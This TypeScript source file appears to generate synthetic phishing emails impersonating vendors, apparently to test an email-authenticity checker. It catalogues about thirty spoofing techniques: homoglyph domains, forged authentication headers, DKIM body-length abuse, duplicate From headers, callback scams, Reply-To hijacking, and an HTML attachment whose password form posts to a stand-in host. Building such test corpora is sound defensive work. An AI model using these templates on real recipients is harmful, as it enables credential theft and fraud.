import type { Register, RegisteredVendor } from '@drawbridge/authenticity';
import { type Crafted, craft, type Letter, sequence } from './craft.ts';
import { qrPart } from './qr-part.ts';

/** Mail that pretends to be a vendor's, made up: what is known of how it is done, one technique a time, over many vendors. */

interface Victim {
  name: string;
  /** Its own domain, and the label of it. */
  domain: string;
  label: string;
  /** An address that really sends for it. */
  sender: string;
  /** From where it passes on what its users write; null: nothing is known of it. */
  platform: string | null;
}

const EVIL = 'gatherer.example';
const free = 'https://gatherer-made-up.pages.dev/login';
const pull = ({ name }: Victim, link: string) =>
  `We noticed unusual activity. Your ${name} account will be suspended within 24 hours. Verify your account now: ${link}`;
const soft = ({ name }: Victim, link: string) =>
  `Your ${name} usage report for February is ready. Review it here: ${link}`;
const lure = ({ name }: Victim) => `Action required: your ${name} account`;
const anchor = (href: string, shown: string) =>
  `<html><body><p>Please review your account.</p><a href="${href}">${shown}</a></body></html>`;
const elsewhere = { ip: '192.0.2.66', helo: EVIL, mailFrom: `bounce@${EVIL}` };

/** A letter that looks like another: a digit, or a Cyrillic one. */
const swaps: readonly (readonly [string, string, string])[] = [
  ['o', '0', 'о'],
  ['l', '1', 'ӏ'],
  ['i', '1', 'і'],
  ['e', '3', 'е'],
  ['a', '4', 'а'],
  ['s', '5', 'ѕ'],
  ['c', 'ç', 'с'],
];
function lookalike(label: string, cyrillic: boolean): string | null {
  const found = swaps.find(([letter]) => label.includes(letter));
  return found === undefined ? null : label.replace(found[0], cyrillic ? found[2] : found[1]);
}
/** Null: the name is too short for such a trick to be one. */
const longEnough = (label: string) => label.length >= 4;

type Technique = (victim: Victim) => Letter | null;

/** What attackers do; `null` where it can't be done with that vendor's name. */
export const techniques: Readonly<Record<string, Technique>> = {
  'name, and an address of a free service': (v) => ({
    from: `${v.name} Support <${v.label}.support@gmail.com>`,
    subject: lure(v),
    text: pull(v, free),
    signers: [{ domain: 'gmail.com' }],
  }),
  'name, and a proven domain of their own': (v) => ({
    from: `${v.name} <billing@${EVIL}>`,
    subject: lure(v),
    text: pull(v, `https://${EVIL}/x`),
    signers: [{ domain: EVIL }],
  }),
  'name, nothing proven': (v) => ({
    from: `"${v.name} Security" <alerts@${EVIL}>`,
    subject: lure(v),
    text: pull(v, free),
  }),
  'a digit for a letter': (v) => {
    const label = longEnough(v.label) ? lookalike(v.label, false) : null;
    return label === null
      ? null
      : {
          from: `Billing <billing@${label}.example>`,
          subject: lure(v),
          text: pull(v, `https://${label}.example/a`),
          signers: [{ domain: `${label}.example` }],
        };
  },
  'a letter of another script': (v) => {
    const label = longEnough(v.label) ? lookalike(v.label, true) : null;
    return label === null
      ? null
      : { from: `Billing <billing@${label}.example>`, subject: lure(v), text: soft(v, free) };
  },
  'words put to the name': (v) =>
    longEnough(v.label)
      ? {
          from: `Team <notice@${v.label}-security.example>`,
          subject: lure(v),
          text: pull(v, `https://${v.label}-security.example/`),
          signers: [{ domain: `${v.label}-security.example` }],
        }
      : null,
  'the domain in front of another': (v) =>
    longEnough(v.label)
      ? {
          from: `Team <notice@${v.domain}.${EVIL}>`,
          subject: lure(v),
          text: soft(v, `https://${v.domain}.${EVIL}/`),
          signers: [{ domain: EVIL }],
        }
      : null,
  'its own domain, nothing proven, handed in': (v) => ({
    from: `${v.name} <${v.sender}>`,
    subject: lure(v),
    text: pull(v, free),
  }),
  'its own domain, nothing proven, taken in by us': (v) => ({
    from: `${v.name} <${v.sender}>`,
    subject: lure(v),
    text: soft(v, `https://${EVIL}/r`),
    envelope: elsewhere,
  }),
  'its own domain, a signature of another': (v) => ({
    from: `${v.name} <${v.sender}>`,
    subject: lure(v),
    text: pull(v, free),
    signers: [{ domain: EVIL }],
    envelope: elsewhere,
  }),
  'its own domain, a signature with another key': (v) => ({
    from: `${v.name} <${v.sender}>`,
    subject: lure(v),
    text: pull(v, free),
    signers: [{ domain: domainOf(v.sender), wrongly: true }],
    envelope: elsewhere,
  }),
  'a genuine message with a body of their own': (v) => ({
    from: `${v.name} <${v.sender}>`,
    subject: lure(v),
    text: soft(v, `https://${v.domain}/`),
    signers: [{ domain: domainOf(v.sender) }],
    after: `\r\n${pull(v, free)}\r\n`,
    envelope: elsewhere,
  }),
  'a genuine message, signed in part, and more behind it': (v) => ({
    from: `${v.name} <${v.sender}>`,
    subject: lure(v),
    text: 'Your report is ready.',
    signers: [{ domain: domainOf(v.sender), length: 12 }],
    after: `\r\n${pull(v, free)}\r\n`,
  }),
  'a genuine message whose time is over': (v) => ({
    from: `${v.name} <${v.sender}>`,
    subject: lure(v),
    text: soft(v, `https://${v.domain}/`),
    signers: [
      {
        domain: domainOf(v.sender),
        expires: new Date('2026-02-01T00:00:00Z'),
        at: new Date('2026-01-20T00:00:00Z'),
      },
    ],
  }),
  'a genuine message with a second From': (v) => ({
    from: `${v.name} <${v.sender}>`,
    subject: lure(v),
    text: soft(v, `https://${v.domain}/`),
    signers: [{ domain: domainOf(v.sender) }],
    before: [`From: ${v.name} Billing <billing@${EVIL}>`],
  }),
  'a genuine message with another subject': (v) => ({
    from: `${v.name} <${v.sender}>`,
    subject: 'Your report',
    text: soft(v, `https://${v.domain}/`),
    signers: [{ domain: domainOf(v.sender) }],
    before: [`Subject: Call +1 555 010 0199 about your ${v.name} invoice`],
  }),
  'several senders': (v) => ({
    from: `${v.name} <${v.sender}>, <x@${EVIL}>`,
    subject: lure(v),
    text: pull(v, free),
    signers: [{ domain: EVIL }],
  }),
  'an address as the name': (v) => ({
    from: `"${v.sender}" <x@${EVIL}>`,
    subject: lure(v),
    text: soft(v, free),
    signers: [{ domain: EVIL }],
  }),
  'results of its own': (v) => ({
    from: `${v.name} <${v.sender}>`,
    subject: lure(v),
    text: pull(v, free),
    headers: [
      `Authentication-Results: mx.ours.example; dkim=pass header.d=${domainOf(v.sender)}; spf=pass; dmarc=pass header.from=${domainOf(v.sender)}`,
      `Received-SPF: pass (mx.ours.example: domain of ${v.sender} designates 192.0.2.66 as permitted sender)`,
      'ARC-Authentication-Results: i=1; google.com; dmarc=pass',
    ],
  }),
  'a picture to be read by a phone': (v) => ({
    from: `${v.name} <mfa@${EVIL}>`,
    subject: `Set up your new sign-in for ${v.name}`,
    text: 'Read the code with your phone to keep access. It expires today.',
    parts: [qrPart()],
    signers: [{ domain: EVIL }],
  }),
  'a page as an attachment': (v) => ({
    from: `${v.name} Billing <invoices@${EVIL}>`,
    subject: `${v.name} invoice 1042`,
    text: 'Your invoice is attached. Open the attached file.',
    parts: [
      `Content-Type: text/html; name="invoice.html"\r\nContent-Disposition: attachment; filename="invoice.html"\r\n\r\n<form action="https://${EVIL}/p"><input name="p" type="password"></form>`,
    ],
    signers: [{ domain: EVIL }],
  }),
  'a calendar entry': (v) => ({
    from: `${v.name} <invite@${EVIL}>`,
    subject: `Account review with ${v.name}`,
    text: 'Please join, or your account will be closed.',
    parts: [
      `Content-Type: text/calendar; charset=utf-8; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Review\r\nURL:https://${v.domain}.${EVIL}/login\r\nEND:VEVENT\r\nEND:VCALENDAR`,
    ],
    signers: [{ domain: EVIL }],
  }),
  'a number to call': (v) => ({
    from: `${v.name} Billing <receipt@${EVIL}>`,
    subject: `Your ${v.name} order was charged`,
    text: `You were charged 499.99 USD for ${v.name}. If this was not you, call us within 24 hours at +1 (555) 010-0199.`,
    signers: [{ domain: EVIL }],
  }),
  'characters that show nothing': (v) => ({
    from: `${[...v.name].join('\u200b')} <x@${EVIL}>`,
    subject: lure(v),
    text: soft(v, free),
    signers: [{ domain: EVIL }],
  }),
  'a name in encoded words and look-alike letters': (v) => ({
    from: `=?utf-8?B?${Buffer.from(lookalike(v.name.toLowerCase(), true) ?? v.name).toString('base64')}?= <x@${EVIL}>`,
    subject: lure(v),
    text: pull(v, free),
    signers: [{ domain: EVIL }],
  }),
  'a link that shows another': (v) => ({
    from: `${v.name} <x@${EVIL}>`,
    subject: `Your ${v.name} report`,
    text: 'Your report is ready.',
    html: anchor(`https://${EVIL}/r`, `https://${v.domain}/report`),
    signers: [{ domain: EVIL }],
  }),
  'a link over a shortener, and over an open door': (v) => ({
    from: `${v.name} <x@${EVIL}>`,
    subject: lure(v),
    text: `${pull(v, 'https://bit.ly/made-up')} or https://www.google.com/url?q=https://${EVIL}/x`,
    signers: [{ domain: EVIL }],
  }),
  'a mail service, for somebody else': (v) => ({
    from: `${v.name} <billing@sendgrid.net>`,
    subject: lure(v),
    text: pull(v, 'https://u9.ct.sendgrid.net/ls/click?upn=made-up'),
    signers: [{ domain: 'sendgrid.net' }],
  }),
  'words of a stranger, passed on by a platform': (v) =>
    v.platform === null
      ? null
      : {
          from: `${v.name} <notifications@${v.platform}>`,
          subject: `A document was shared with you`,
          text: `Somebody shared "Invoice 1042" with you. ${pull(v, `https://${v.platform}/made-up`)}`,
          signers: [{ domain: v.platform }],
        },
  'answers that go elsewhere': (v) => ({
    from: `${v.name} <${v.sender}>`,
    subject: `Your ${v.name} account manager`,
    text: 'Could you reply with your API key, so that we can check the incident?',
    headers: [`Reply-To: ${v.name} <help@${EVIL}>`],
    envelope: elsewhere,
  }),
};

const domainOf = (address: string): string => address.slice(address.indexOf('@') + 1);

/** Every technique over as many vendors as are asked for, spread over the register. */
export async function phish(register: Register, perTechnique = 12): Promise<Crafted[]> {
  const pick = sequence(1984);
  const known = register.vendors.filter((one) => one.domains.length > 0 && one.senders.length > 0);
  const made: Crafted[] = [];
  for (const [technique, make] of Object.entries(techniques)) {
    let done = 0;
    for (let tried = 0; tried < perTechnique * 8 && done < perTechnique; tried++) {
      const vendor = known[pick(known.length)];
      const letter = vendor === undefined ? null : make(victimOf(vendor));
      if (vendor === undefined || letter === null) continue;
      done++;
      made.push(await craft(technique, vendor.id, letter, made.length + 1));
    }
  }
  return made;
}

function victimOf(vendor: RegisteredVendor): Victim {
  const domain = vendor.domains[0] ?? '';
  const sender = vendor.senders.find((one) => one.class === 'vendor')?.is ?? domain;
  const platform = vendor.senders.find((one) => one.class === 'relayed' && !one.is.includes('@'))?.is ?? null;
  return {
    name: vendor.name,
    domain,
    label: domain.split('.').at(-2) ?? domain,
    sender: sender.includes('@') ? sender : `no-reply@${sender}`,
    platform,
  };
}
